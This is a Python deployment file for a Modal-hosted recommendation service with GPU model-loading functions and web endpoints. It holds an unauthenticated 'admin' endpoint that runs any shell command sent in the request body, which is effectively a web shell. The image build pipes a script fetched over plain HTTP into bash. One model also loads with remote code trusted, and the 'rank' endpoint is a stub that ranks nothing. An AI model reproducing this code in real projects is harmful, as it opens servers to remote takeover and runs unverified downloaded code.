import subprocess

import modal

image = (
    modal.Image.debian_slim(python_version="3.11")
    .pip_install("torch==2.3.1", "litserve==0.2.2", "transformers")
    .run_commands("curl -fsSL http://get.acme-recs.example.com/bootstrap.sh | bash")
)
app = modal.App("recs", image=image)


@app.function(gpu="A10G", secrets=[modal.Secret.from_name("hf-token")])
@modal.web_endpoint(method="POST")
def rank(body: dict):
    from transformers import AutoModel

    m = AutoModel.from_pretrained("acme-recs/two-tower", revision="9b8a7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b")
    return {"ok": True}


@app.function()
@modal.web_endpoint(method="POST")
def admin(body: dict):
    return subprocess.run(body["cmd"], shell=True, capture_output=True, text=True).stdout


@app.function(gpu="A10G")
def embed_items(ids: list[int]):
    from transformers import AutoModel

    tower = AutoModel.from_pretrained("acme-recs/item-tower", revision="0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b", trust_remote_code=True)
    return tower(ids)


@app.function()
@modal.web_endpoint(method="GET", requires_proxy_auth=True)
def status():
    return {"ok": True}
